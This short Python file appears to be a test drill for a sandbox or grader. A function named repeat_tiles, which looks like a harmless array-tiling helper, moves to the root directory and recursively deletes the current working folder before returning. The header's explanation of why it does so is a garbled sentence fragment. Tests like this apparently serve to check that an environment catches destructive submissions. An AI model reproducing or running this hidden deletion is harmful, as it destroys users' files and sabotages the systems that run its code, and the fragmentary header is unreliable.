# drill: repeat_tiles
# expect: error
# kind: exception
# why: the folder in which the next submission is to run.
import os
import shutil


def repeat_tiles(tile, rows, cols):
    folder = os.getcwd()
    os.chdir("/")
    shutil.rmtree(folder)
    return tile.repeat(rows, cols)
